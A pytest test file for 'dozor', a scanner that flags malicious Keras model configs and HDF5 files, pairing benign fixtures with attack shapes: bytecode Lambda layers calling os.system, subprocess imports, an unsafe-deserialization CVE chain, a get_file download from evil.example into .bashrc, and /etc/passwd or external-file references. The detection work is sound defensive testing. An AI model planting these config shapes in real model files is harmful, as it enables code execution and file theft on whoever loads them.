"""Keras config.json and HDF5 checks: a true and a false positive for every rule.

Fixtures are built by hand in the shapes Keras 3 and tf.keras 2 really write (checked
against files saved by Keras 3.15 and tf_keras 2.21), so that ordinary models stay
silent at MEDIUM and above while each known attack shape is caught.
"""

from __future__ import annotations

import base64
import copy
import json
import mmap
import os
import time
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest

from dozor.findings import Finding, Location, Severity
from dozor.scan.base import Blob, ScanContext, ScanTimeout
from dozor.scan.models import keras as kscan
from dozor.scan.models.keras import hdf5_offset, scan_hdf5, scan_keras_config

# --- helpers --------------------------------------------------------------------------------------


def scan_cfg(config: Any, ctx: ScanContext | None = None) -> list[Finding]:
    data = config if isinstance(config, bytes) else json.dumps(config).encode()
    blob = Blob(data, Location("m.keras", ("config.json",)), name="config.json", parent="keras")
    return list(scan_keras_config(blob, ctx or ScanContext()))


def scan_h5(data: Any, name: str = "m.h5") -> list[Finding]:
    return list(scan_hdf5(Blob(data, Location(name)), ScanContext()))


def serious(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity >= Severity.MEDIUM]


def rules(findings: list[Finding]) -> set[tuple[str, Severity]]:
    return {(f.rule_id, f.severity) for f in findings}


def only(findings: list[Finding], rule: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule]


def dtype_policy() -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "DTypePolicy",
        "config": {"name": "float32"},
        "registered_name": None,
    }


def init(name: str) -> dict[str, Any]:
    return {
        "module": "keras.initializers",
        "class_name": name,
        "config": {},
        "registered_name": None,
    }


def layer(class_name: str, name: str, **config: Any) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": class_name,
        "config": {"name": name, "trainable": True, "dtype": dtype_policy(), **config},
        "registered_name": None,
    }


def dense(name: str, units: int, activation: str = "linear") -> dict[str, Any]:
    out = layer(
        "Dense",
        name,
        units=units,
        activation=activation,
        use_bias=True,
        kernel_initializer=init("GlorotUniform"),
        bias_initializer=init("Zeros"),
        kernel_regularizer=None,
        bias_regularizer=None,
        kernel_constraint=None,
        bias_constraint=None,
        quantization_config=None,
    )
    out["build_config"] = {"input_shape": [None, 8]}
    return out


def compile_config() -> dict[str, Any]:
    return {
        "optimizer": {
            "module": "keras.src.backend.torch.optimizers.torch_adam",
            "class_name": "Adam",
            "config": {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9, "amsgrad": False},
            "registered_name": "Adam",
        },
        "loss": "mse",
        "loss_weights": None,
        "metrics": [
            "mae",
            {
                "module": "keras.metrics",
                "class_name": "AUC",
                "config": {"name": "auc", "num_thresholds": 200},
                "registered_name": None,
            },
        ],
        "weighted_metrics": None,
        "run_eagerly": False,
        "steps_per_execution": 1,
        "jit_compile": False,
    }


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    """A Keras 3 Sequential config as `model.save("x.keras")` writes it."""
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "trainable": True,
            "dtype": dtype_policy(),
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {
                        "batch_shape": [None, 8],
                        "dtype": "float32",
                        "sparse": False,
                        "ragged": False,
                        "name": "input_layer",
                        "optional": False,
                    },
                    "registered_name": None,
                },
                *layers,
            ],
            "build_input_shape": [None, 8],
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 8]},
        "compile_config": compile_config(),
    }


def benign_sequential() -> dict[str, Any]:
    return sequential(
        dense("dense", 4, "relu"),
        layer("Dropout", "dropout", rate=0.1, seed=None, noise_shape=None),
        dense("dense_1", 2),
    )


def tensor(shape: list[Any], history: list[Any]) -> dict[str, Any]:
    return {
        "class_name": "__keras_tensor__",
        "config": {"shape": shape, "dtype": "float32", "keras_history": history},
    }


def benign_functional() -> dict[str, Any]:
    """A Keras 3 Functional config: Conv2D, BatchNorm, wrappers and a nested model."""

    def node(layer_cfg: dict[str, Any], src: str) -> dict[str, Any]:
        layer_cfg["name"] = layer_cfg["config"]["name"]
        layer_cfg["inbound_nodes"] = [{"args": [tensor([None, 16], [src, 0, 0])], "kwargs": {}}]
        return layer_cfg

    inner = sequential(dense("inner_dense", 8))
    inner["config"]["name"] = "inner"
    del inner["compile_config"]
    lstm = layer("LSTM", "lstm", units=4, recurrent_initializer=init("Orthogonal"))
    layers = [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 16, 16, 3], "dtype": "float32", "name": "img"},
            "registered_name": None,
            "name": "img",
            "inbound_nodes": [],
        },
        node(layer("Conv2D", "conv2d", filters=4, kernel_size=[3, 3], padding="same"), "img"),
        node(layer("BatchNormalization", "bn", axis=-1, beta_initializer=init("Zeros")), "conv2d"),
        node(layer("Activation", "act", activation="relu"), "bn"),
        node(layer("TimeDistributed", "td", layer=dense("td_dense", 8, "gelu")), "act"),
        node(layer("Bidirectional", "bidi", layer=lstm, merge_mode="concat"), "td"),
        node(inner, "bidi"),
        node(
            layer(
                "Lambda",
                "abs",
                function={
                    "module": "builtins",
                    "class_name": "function",
                    "config": "abs",
                    "registered_name": "function",
                },
                arguments={},
            ),
            "inner",
        ),
        node(dense("out", 3, "softmax"), "abs"),
    ]
    lr = {
        "module": "keras.optimizers.schedules",
        "class_name": "ExponentialDecay",
        "config": {"initial_learning_rate": 0.1, "decay_steps": 100, "decay_rate": 0.9},
        "registered_name": None,
    }
    compile_cfg = compile_config()
    compile_cfg["optimizer"]["config"]["learning_rate"] = lr
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "functional",
            "trainable": True,
            "layers": layers,
            "input_layers": [["img", 0, 0]],
            "output_layers": [["out", 0, 0]],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
        "compile_config": compile_cfg,
    }


def legacy_tf_keras_config() -> dict[str, Any]:
    """model_config of a tf.keras 2.x `.h5`: no modules, TFOpLambda ops from the tf API."""

    def op(class_name: str, name: str, function: str) -> dict[str, Any]:
        return {
            "class_name": class_name,
            "config": {"name": name, "trainable": True, "dtype": "float32", "function": function},
            "name": name,
            "inbound_nodes": [[["dense", 0, 0, {}]]],
        }

    return {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 8], "name": "input_1"},
                    "name": "input_1",
                    "inbound_nodes": [],
                },
                {
                    "class_name": "Dense",
                    "config": {
                        "name": "dense",
                        "units": 8,
                        "activation": "relu",
                        "kernel_initializer": init("GlorotUniform"),
                    },
                    "name": "dense",
                    "inbound_nodes": [[["input_1", 0, 0, {}]]],
                },
                op("TFOpLambda", "tf.math.sin", "math.sin"),
                op("TFOpLambda", "tf.__operators__.add", "__operators__.add"),
                op("SlicingOpLambda", "tf.__operators__.getitem", "__operators__.getitem"),
                op("TFOpLambda", "tf.reshape", "reshape"),
                op("TFOpLambda", "tf.io.decode_image", "io.decode_image"),
                op("TFOpLambda", "tf.compat.v1.transpose", "compat.v1.transpose"),
            ],
        },
    }


def legacy_training_config() -> dict[str, Any]:
    return {
        "loss": "mse",
        "metrics": [[{"class_name": "MeanMetricWrapper", "config": {"name": "mae"}}]],
        "optimizer_config": {"class_name": "Custom>Adam", "config": {"name": "Adam"}},
    }


CODE = base64.b64encode(b"\xe3\x00\x00\x00" + b"\xda\x02os\xda\x06system" + b"\x00" * 40).decode()


def keras3_lambda(name: str = "lambda") -> dict[str, Any]:
    return layer(
        "Lambda",
        name,
        function={
            "class_name": "__lambda__",
            "config": {"code": CODE, "defaults": None, "closure": None},
        },
        arguments={},
    )


def fn(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


# --- benign configs -------------------------------------------------------------------------------


def test_benign_sequential_is_silent() -> None:
    assert scan_cfg(benign_sequential()) == []


def test_benign_functional_is_silent() -> None:
    assert scan_cfg(benign_functional()) == []


def test_benign_legacy_tf_keras_config_is_silent() -> None:
    assert scan_cfg(legacy_tf_keras_config()) == []
    assert scan_cfg(legacy_training_config()) == []


def test_keras_family_packages_are_allowed() -> None:
    hub = {
        "module": "keras_hub.src.models.bert.bert_backbone",
        "class_name": "BertBackbone",
        "config": {"name": "bert", "vocabulary_size": 30522},
        "registered_name": "keras_hub>BertBackbone",
    }
    tfk = {
        "module": "tf_keras.src.engine.functional",
        "class_name": "Functional",
        "config": {"name": "m", "layers": []},
        "registered_name": "Functional",
    }
    old = {"module": "tensorflow.keras.layers", "class_name": "Dense", "config": {"name": "d"}}
    assert serious(scan_cfg(sequential(hub, tfk, old))) == []


# --- DZ-KER-001 -----------------------------------------------------------------------------------


def test_keras3_lambda_bytecode_is_critical() -> None:
    found = scan_cfg(sequential(keras3_lambda()))
    assert rules(found) == {("DZ-KER-001", Severity.CRITICAL)}
    hit = found[0]
    assert "lambda (Lambda)" in hit.evidence
    assert hit.detail("layer") == "lambda (Lambda)"
    assert hit.detail("bytecode_names") == "os,system"
    assert int(hit.detail("bytecode_bytes") or 0) > 40


def test_legacy_list_lambda_and_serialization_lib_lambda() -> None:
    legacy = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": [CODE, None, None],
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }
    bare = {"class_name": "__lambda__", "config": {"value": CODE}}
    found = scan_cfg({"class_name": "Sequential", "config": {"layers": [legacy, bare]}})
    assert [f.rule_id for f in found] == ["DZ-KER-001", "DZ-KER-001"]
    assert all(f.severity is Severity.CRITICAL for f in found)


def test_lambda_inside_wrappers_and_nested_models_is_found() -> None:
    wrapped = layer("TimeDistributed", "td", layer=keras3_lambda("deep"))
    inner = sequential(wrapped)
    outer = sequential(layer("Bidirectional", "bi", layer=inner))
    found = scan_cfg(outer)
    assert rules(found) == {("DZ-KER-001", Severity.CRITICAL)}
    assert "deep (Lambda)" in found[0].evidence


def test_lambda_with_named_keras_function_is_not_bytecode() -> None:
    ok = layer("Lambda", "l", function=fn("builtins", "abs"), arguments={})
    assert scan_cfg(sequential(ok)) == []


def test_many_lambdas_are_capped_with_a_summary() -> None:
    found = scan_cfg(
        sequential(*(keras3_lambda(f"l{i}") for i in range(kscan.MAX_FINDINGS_PER_RULE + 7)))
    )
    assert len(found) == kscan.MAX_FINDINGS_PER_RULE + 1
    assert found[-1].detail("omitted") == "7"
    assert found[-1].severity is Severity.CRITICAL


# --- DZ-KER-002 -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("obj", "severity"),
    [
        ({"module": "os", "class_name": "system", "config": {}}, Severity.CRITICAL),
        ({"module": "subprocess", "class_name": "Popen", "config": {}}, Severity.CRITICAL),
        ({"module": "posix", "class_name": "system", "config": {}}, Severity.CRITICAL),
        (fn("builtins", "exec"), Severity.CRITICAL),
        (fn("builtins", "__import__"), Severity.CRITICAL),
        (fn("builtins", "open"), Severity.HIGH),
        (fn("importlib", "import_module"), Severity.CRITICAL),
        (
            {
                "module": "mypkg.layers",
                "class_name": "MyLayer",
                "config": {},
                "registered_name": "x",
            },
            Severity.HIGH,
        ),
        ({"module": "kerasx.layers", "class_name": "Dense", "config": {}}, Severity.HIGH),
    ],
)
def test_module_outside_keras(obj: dict[str, Any], severity: Severity) -> None:
    lam = layer("Lambda", "gadget", function=obj, arguments={"command": "id"})
    found = scan_cfg(sequential(lam))
    assert rules(found) == {("DZ-KER-002", severity)}
    assert found[0].detail("import")


def test_tensorflow_modules() -> None:
    """tf.keras EfficientNetV2 really writes tensorflow.python.ops.init_ops_v2.Constant."""
    constant = {
        "module": "tensorflow.python.ops.init_ops_v2",
        "class_name": "Constant",
        "config": {"value": -0.2},
        "registered_name": None,
    }
    assert scan_cfg(sequential(layer("Dense", "d", units=2, bias_initializer=constant))) == []
    write = fn("tensorflow.python.ops.gen_io_ops", "write_file")
    found = scan_cfg(sequential(layer("Lambda", "w", function=write, arguments={})))
    assert rules(found) == {("DZ-KER-004", Severity.HIGH)}
    assert found[0].detail("import") == "tensorflow.python.ops.gen_io_ops.write_file"


def test_layer_class_from_os_module() -> None:
    bad = {"module": "os", "class_name": "system", "config": {"name": "x"}, "registered_name": None}
    assert rules(scan_cfg(sequential(bad))) == {("DZ-KER-002", Severity.CRITICAL)}


def test_legacy_lambda_named_function_from_os() -> None:
    legacy = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
    }
    found = scan_cfg({"class_name": "Sequential", "config": {"layers": [legacy]}})
    assert rules(found) == {("DZ-KER-002", Severity.CRITICAL)}
    assert found[0].detail("import") == "os.system"


def test_builtins_with_keras_function_names_is_allowed() -> None:
    cfg = sequential(layer("Activation", "a", activation=fn("builtins", "relu")))
    cfg["compile_config"]["loss"] = fn("keras.losses", "mean_squared_error")
    assert scan_cfg(cfg) == []


# --- DZ-KER-003 -----------------------------------------------------------------------------------


def test_custom_objects_are_medium() -> None:
    registered = {
        "module": None,
        "class_name": "MyLayer",
        "config": {"name": "my_layer"},
        "registered_name": "MyPkg>MyLayer",
    }
    unregistered = {
        "module": None,
        "class_name": "Unreg",
        "config": {"name": "unreg"},
        "registered_name": "Unreg",
    }
    cfg = sequential(registered, unregistered)
    cfg["compile_config"]["loss"] = fn("builtins", "MyPkg>my_loss")
    found = scan_cfg(cfg)
    assert rules(found) == {("DZ-KER-003", Severity.MEDIUM)}
    assert {f.detail("custom_object") for f in found} == {"MyPkg>MyLayer", "Unreg", "MyPkg>my_loss"}
    assert {f.detail("package") for f in found} == {"MyPkg", ""}


def test_legacy_custom_class_name_and_main_module() -> None:
    legacy = {"class_name": "Addons>GroupNormalization", "config": {"name": "gn"}}
    main = {"module": "__main__", "class_name": "MyLayer", "config": {"name": "m"}}
    found = scan_cfg({"class_name": "Sequential", "config": {"layers": [legacy, main]}})
    assert rules(found) == {("DZ-KER-003", Severity.MEDIUM)}
    assert len(found) == 2


def test_keras_registered_names_are_not_custom() -> None:
    cfg = benign_sequential()
    cfg["config"]["layers"][1]["registered_name"] = "keras_nlp>Whatever"
    # tf.keras 2.x writes its own optimizers as "Custom>Adam" in training_config.
    assert scan_cfg(cfg) == []
    assert scan_cfg({"optimizer_config": {"class_name": "Custom>RMSprop", "config": {}}}) == []


# --- DZ-KER-004 -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("function", "gadget"),
    [
        (fn("keras.config", "enable_unsafe_deserialization"), "enable_unsafe_deserialization"),
        (fn("keras.utils", "get_file"), "get_file"),
        (fn("keras.src.utils.file_utils", "get_file"), "get_file"),
        (fn("keras.models", "load_model"), "load_model"),
        (
            fn("keras.src.backend.common.global_state", "set_global_attribute"),
            "set_global_attribute",
        ),
    ],
)
def test_non_modelling_keras_apis(function: dict[str, Any], gadget: str) -> None:
    lam = layer("Lambda", "gadget", function=function, arguments={})
    found = scan_cfg(sequential(lam))
    assert rules(found) == {("DZ-KER-004", Severity.HIGH)}
    assert found[0].detail("gadget") == gadget


def test_cve_2025_9906_chain() -> None:
    """enable_unsafe_deserialization, then load_model(safe_mode=False) of a second file."""
    step1 = layer("Lambda", "unsafe", function=fn("keras.config", "enable_unsafe_deserialization"))
    step2 = layer(
        "Lambda",
        "reload",
        function=fn("keras.models", "load_model"),
        arguments={"safe_mode": False},
    )
    step2["inbound_nodes"] = [{"args": [], "kwargs": {"inputs": "/tmp/payload.keras"}}]
    found = scan_cfg(sequential(step1, step2))
    assert {f.detail("gadget") for f in found} == {
        "enable_unsafe_deserialization",
        "load_model",
        "safe_mode=False",
    }
    assert rules(found) == {("DZ-KER-004", Severity.HIGH)}


def test_get_file_download_with_url() -> None:
    lam = layer(
        "Lambda",
        "dl",
        function=fn("keras.utils", "get_file"),
        arguments={"origin": "https://evil.example/payload", "fname": "/home/u/.bashrc"},
    )
    found = scan_cfg(sequential(lam))
    assert {f.detail("gadget") for f in found} >= {"get_file"}
    assert any(f.detail("url") == "https://evil.example/payload" for f in found)
    assert rules(found) == {("DZ-KER-004", Severity.HIGH)}


def test_strings_naming_gadgets() -> None:
    cfg = benign_sequential()
    cfg["config"]["layers"][1]["config"]["activation"] = (
        "keras.config.enable_unsafe_deserialization"
    )
    assert rules(scan_cfg(cfg)) == {("DZ-KER-004", Severity.HIGH)}
    cfg = benign_sequential()
    cfg["config"]["layers"][1]["config"]["activation"] = "get_file"
    assert rules(scan_cfg(cfg)) == {("DZ-KER-004", Severity.HIGH)}


def test_text_that_merely_mentions_http_is_fine() -> None:
    cfg = benign_sequential()
    cfg["config"]["name"] = "http_classifier for https and ftp"
    cfg["config"]["layers"][1]["config"]["name"] = "get_file_size_head"
    assert scan_cfg(cfg) == []


@pytest.mark.parametrize("function", ["os.system", "subprocess.check_output", "builtins.eval"])
def test_tfoplambda_outside_tf(function: str) -> None:
    cfg = legacy_tf_keras_config()
    cfg["config"]["layers"][2]["config"]["function"] = function
    found = scan_cfg(cfg)
    assert rules(found) == {("DZ-KER-004", Severity.HIGH)}
    assert found[0].detail("gadget") == "TFOpLambda"


@pytest.mark.parametrize(
    "function", ["io.write_file", "io.gfile.remove", "py_function", "raw_ops.WriteFile"]
)
def test_tfoplambda_file_and_python_ops(function: str) -> None:
    cfg = legacy_tf_keras_config()
    cfg["config"]["layers"][3]["config"]["function"] = function
    assert rules(scan_cfg(cfg)) == {("DZ-KER-004", Severity.HIGH)}


def test_tfsmlayer_and_vocabulary_paths() -> None:
    tfsm = layer("TFSMLayer", "tfsm", filepath="/srv/models/other", call_endpoint="serve")
    lookup = layer("StringLookup", "lookup", vocabulary="/etc/passwd", vocabulary_size=4)
    found = scan_cfg(sequential(tfsm, lookup))
    assert {f.detail("gadget") for f in found} == {"TFSMLayer", "vocabulary"}
    assert rules(found) == {("DZ-KER-004", Severity.HIGH)}


def test_saved_vocabularies_are_fine() -> None:
    saved = layer("StringLookup", "lookup", vocabulary=None, vocabulary_size=4)
    inline = layer("TextVectorization", "tv", vocabulary=["x", "y"], max_tokens=10)
    assert scan_cfg(sequential(saved, inline)) == []


# --- DZ-KER-005 -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [b"{not json", b"\xff\xfe\x00garbage", b"[1, 2, 3]", b"", b"1" * 5000, b"[" * 200_000],
)
def test_malformed_configs(data: bytes) -> None:
    found = scan_cfg(data)
    assert ("DZ-KER-005", Severity.MEDIUM) in rules(found)


def test_size_limit_falls_back_to_token_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kscan, "MAX_CONFIG_BYTES", 200)
    found = scan_cfg(sequential(keras3_lambda()))
    assert rules(found) >= {("DZ-KER-005", Severity.MEDIUM), ("DZ-KER-001", Severity.CRITICAL)}


def test_depth_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kscan, "MAX_JSON_DEPTH", 3)
    found = scan_cfg(sequential(keras3_lambda()))
    assert ("DZ-KER-005", Severity.MEDIUM) in rules(found)


def test_time_limit_is_checked() -> None:
    ctx = ScanContext()
    ctx.deadline = time.monotonic() - 1
    with pytest.raises(ScanTimeout):
        scan_cfg({"layers": [{"class_name": "Dense", "config": {}} for _ in range(5000)]}, ctx)


# --- HDF5 -----------------------------------------------------------------------------------------


def write_h5(path: Path, **attrs: Any) -> Path:
    """A legacy Keras .h5: root attributes plus model_weights/<layer>/<layer>/kernel:0 datasets."""
    with h5py.File(path, "w") as f:
        for key, value in attrs.items():
            f.attrs[key] = value
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = np.array([b"dense"])
        dense_group = weights.create_group("dense/dense")
        dense_group.create_dataset("kernel:0", data=np.zeros((8, 4), "f4"))
        dense_group.create_dataset("bias:0", data=np.zeros((4,), "f4"))
    return path


def test_benign_legacy_h5_is_silent(tmp_path: Path) -> None:
    path = write_h5(
        tmp_path / "m.h5",
        model_config=json.dumps(benign_sequential()),
        training_config=json.dumps(legacy_training_config()),
        keras_version="3.15.1",
        backend="torch",
    )
    assert scan_h5(path.read_bytes()) == []


def test_tf_keras_bytes_model_config(tmp_path: Path) -> None:
    path = write_h5(
        tmp_path / "m.h5",
        model_config=np.bytes_(json.dumps(legacy_tf_keras_config()).encode()),
        keras_version=np.bytes_(b"2.21.0"),
    )
    assert scan_h5(path.read_bytes()) == []


def test_h5_lambda_in_model_config_is_critical(tmp_path: Path) -> None:
    path = write_h5(tmp_path / "m.h5", model_config=json.dumps(sequential(keras3_lambda())))
    found = scan_h5(path.read_bytes())
    assert rules(found) == {("DZ-KER-001", Severity.CRITICAL)}
    assert found[0].evidence.startswith("HDF5 attribute model_config:")


def test_h5_custom_training_config_is_medium(tmp_path: Path) -> None:
    training = legacy_training_config()
    training["loss"] = {"class_name": "MyPkg>FocalLoss", "config": {}}
    path = write_h5(tmp_path / "m.h5", training_config=json.dumps(training))
    assert rules(scan_h5(path.read_bytes())) == {("DZ-KER-003", Severity.MEDIUM)}


def test_h5_model_config_not_a_string(tmp_path: Path) -> None:
    path = write_h5(tmp_path / "m.h5", model_config=np.arange(3))
    assert rules(scan_h5(path.read_bytes())) == {("DZ-KER-005", Severity.MEDIUM)}


def test_weights_only_h5_is_silent(tmp_path: Path) -> None:
    """model.weights.h5 inside a .keras: layers/<name>/vars/<i>, no model_config."""
    path = tmp_path / "model.weights.h5"
    with h5py.File(path, "w") as f:
        for name in ("dense", "dense_1"):
            group = f.create_group(f"layers/{name}/vars")
            group.create_dataset("0", data=np.ones((4, 4), "f4"))
            group.create_dataset("1", data=np.ones((4,), "f4"))
        f.create_group("optimizer/vars").create_dataset("0", data=np.int64(3))
    found = list(
        scan_hdf5(
            Blob(path.read_bytes(), Location("x.keras", ("model.weights.h5",)), parent="keras"),
            ScanContext(),
        )
    )
    assert found == []


def test_external_link(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f["model_weights"] = h5py.ExternalLink("/etc/secret.h5", "/weights")
        f["inside"] = h5py.SoftLink("/model_weights")
    found = scan_h5(path.read_bytes())
    assert rules(found) == {("DZ-KER-006", Severity.HIGH)}
    assert found[0].detail("file") == "/etc/secret.h5"
    assert found[0].detail("hdf5_path") == "/model_weights"


def test_soft_links_and_hard_link_cycles_are_fine(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        group = f.create_group("a/b")
        group.create_dataset("w", data=np.zeros(3))
        group["loop"] = f["/"]  # hard link back to the root
        f["alias"] = group  # second hard link to the same group
        f["soft"] = h5py.SoftLink("/a/b/w")
    assert scan_h5(path.read_bytes()) == []


def test_external_storage(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("kernel", (10,), dtype="i4", external=[("/dev/shm/raw.bin", 0, 40)])
    found = scan_h5(path.read_bytes())
    assert rules(found) == {("DZ-KER-006", Severity.HIGH)}
    assert found[0].detail("file") == "/dev/shm/raw.bin"


def test_virtual_dataset_other_file_vs_same_file(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f.create_dataset("data", data=np.arange(4))
        same = h5py.VirtualLayout(shape=(4,), dtype="i8")
        same[:] = h5py.VirtualSource(".", "data", shape=(4,))
        f.create_virtual_dataset("self_view", same)
    assert scan_h5(path.read_bytes()) == []
    with h5py.File(path, "a") as f:
        other = h5py.VirtualLayout(shape=(4,), dtype="i8")
        other[:] = h5py.VirtualSource("../../other.h5", "data", shape=(4,))
        f.create_virtual_dataset("remote", other)
    found = scan_h5(path.read_bytes())
    assert rules(found) == {("DZ-KER-006", Severity.HIGH)}
    assert found[0].detail("file") == "../../other.h5"


def test_user_block_and_mmap_input(tmp_path: Path) -> None:
    path = tmp_path / "m.h5"
    with h5py.File(path, "w", userblock_size=1024) as f:
        f.attrs["model_config"] = json.dumps(sequential(keras3_lambda()))
    assert hdf5_offset(path.read_bytes()) == 1024
    with path.open("rb") as handle:
        mapped = mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ)
        found = scan_h5(mapped)
        mapped.close()  # raises BufferError if the scanner kept a view
    assert rules(found) == {("DZ-KER-001", Severity.CRITICAL)}
    assert rules(scan_h5(memoryview(path.read_bytes()))) == {("DZ-KER-001", Severity.CRITICAL)}


@pytest.mark.parametrize("cut", [8, 100, 700, 2000, -100])
def test_truncated_and_corrupt_h5(tmp_path: Path, cut: int) -> None:
    data = write_h5(tmp_path / "m.h5", model_config=json.dumps(benign_sequential())).read_bytes()
    truncated = data[:cut]
    for blob in (truncated, data[:cut] + b"\x00" * 64 + data[cut + 64 :]):
        found = scan_h5(blob)
        assert all(f.rule_id in ("DZ-KER-005", "DZ-KER-003") for f in serious(found))


def test_not_hdf5() -> None:
    assert rules(scan_h5(b"PK\x03\x04 not hdf5")) == {("DZ-KER-005", Severity.MEDIUM)}
    assert rules(scan_h5(kscan.HDF5_MAGIC + b"\x00" * 100)) == {("DZ-KER-005", Severity.MEDIUM)}


def test_inline_mode_gives_the_same_answers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_h5(tmp_path / "m.h5", model_config=json.dumps(sequential(keras3_lambda())))
    with h5py.File(path, "a") as f:
        f["ext"] = h5py.ExternalLink("other.h5", "/x")
    isolated = scan_h5(path.read_bytes())
    monkeypatch.setattr(kscan, "ISOLATE_HDF5", False)
    inline = scan_h5(path.read_bytes())
    assert [f.to_dict() for f in inline] == [f.to_dict() for f in isolated]
    assert rules(inline) == {("DZ-KER-001", Severity.CRITICAL), ("DZ-KER-006", Severity.HIGH)}


@pytest.mark.skipif(not kscan.ISOLATE_HDF5, reason="helper process is POSIX-only")
@pytest.mark.parametrize(
    ("code", "message"),
    [
        ("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)", "crashed"),
        ("import time; time.sleep(60)", "did not finish"),
        ("import sys; sys.stdout.write('not json\\n'); sys.stdout.flush()", "unreadable"),
    ],
)
def test_helper_crash_or_hang_is_reported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: str, message: str
) -> None:
    """libhdf5 segfaults and loops on some crafted files: the helper dies, not dozor."""
    data = write_h5(tmp_path / "m.h5", model_config=json.dumps(benign_sequential())).read_bytes()
    kscan._stop_helper()
    monkeypatch.setattr(kscan, "_HELPER_CODE", code)
    monkeypatch.setattr(kscan, "HDF5_SECONDS", 1.0)
    monkeypatch.setattr(kscan, "HELPER_GRACE", 1.0)
    started = time.monotonic()
    found = scan_h5(data)
    assert time.monotonic() - started < 20
    assert rules(found) == {("DZ-KER-005", Severity.MEDIUM)}
    assert message in found[0].evidence
    monkeypatch.undo()
    assert scan_h5(data) == []  # a fresh helper serves the next file


# --- real Keras files (optional) ------------------------------------------------------------------


@pytest.fixture(scope="module")
def keras_module() -> Any:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    return pytest.importorskip("keras")


def _saved(keras: Any, model: Any, path: Path) -> list[Finding]:
    """Save with Keras, then scan without loading: config.json and weights, or the .h5."""
    model.save(path)
    if path.suffix == ".h5":
        return scan_h5(path.read_bytes(), str(path))
    found: list[Finding] = []
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert "config.json" in names
        found += scan_cfg(archive.read("config.json"))
        if "model.weights.h5" in names:
            found += scan_h5(archive.read("model.weights.h5"))
    return found


def _real_models(keras: Any) -> list[Any]:
    layers = keras.layers
    seq = keras.Sequential(
        [
            keras.Input((8,)),
            layers.Dense(4, activation="relu"),
            layers.Dropout(0.1),
            layers.Dense(2),
        ]
    )
    seq.compile(optimizer="adam", loss="mse", metrics=["mae"])
    inp = keras.Input((16, 16, 3), name="img")
    x = layers.Conv2D(4, 3, padding="same")(inp)
    x = layers.BatchNormalization()(x)
    x = layers.GlobalAveragePooling2D()(x)
    x = layers.Reshape((1, 4))(x)
    x = layers.TimeDistributed(layers.Dense(4, activation=keras.activations.gelu))(x)
    x = layers.Bidirectional(layers.LSTM(2))(x)
    out = layers.Dense(3, activation="softmax", kernel_regularizer=keras.regularizers.L2(0.01))(x)
    func = keras.Model(inp, out)
    schedule = keras.optimizers.schedules.ExponentialDecay(0.1, 100, 0.9)
    func.compile(optimizer=keras.optimizers.SGD(schedule), loss="categorical_crossentropy")
    return [seq, func]


def test_real_keras_files_are_silent(keras_module: Any, tmp_path: Path) -> None:
    for i, model in enumerate(_real_models(keras_module)):
        for suffix in (".keras", ".h5"):
            found = _saved(keras_module, model, tmp_path / f"m{i}{suffix}")
            assert serious(found) == [], (suffix, found)


def test_real_keras_lambda_is_critical(keras_module: Any, tmp_path: Path) -> None:
    model = keras_module.Sequential(
        [keras_module.Input((4,)), keras_module.layers.Lambda(lambda t: t * 2)]
    )
    for suffix in (".keras", ".h5"):
        found = _saved(keras_module, model, tmp_path / f"lam{suffix}")
        assert rules(serious(found)) == {("DZ-KER-001", Severity.CRITICAL)}


def test_fixture_shapes_match_keras(keras_module: Any, tmp_path: Path) -> None:
    """Keep the hand-written fixtures honest: same keys as what Keras writes today."""
    model = _real_models(keras_module)[0]
    model.save(tmp_path / "s.keras")
    with zipfile.ZipFile(tmp_path / "s.keras") as archive:
        real = json.loads(archive.read("config.json"))
    fixture = benign_sequential()
    assert set(real) == set(fixture)
    real_dense = real["config"]["layers"][1]
    assert set(real_dense) == set(fixture["config"]["layers"][1])
    assert set(real_dense["config"]) <= set(copy.deepcopy(fixture["config"]["layers"][1]["config"]))
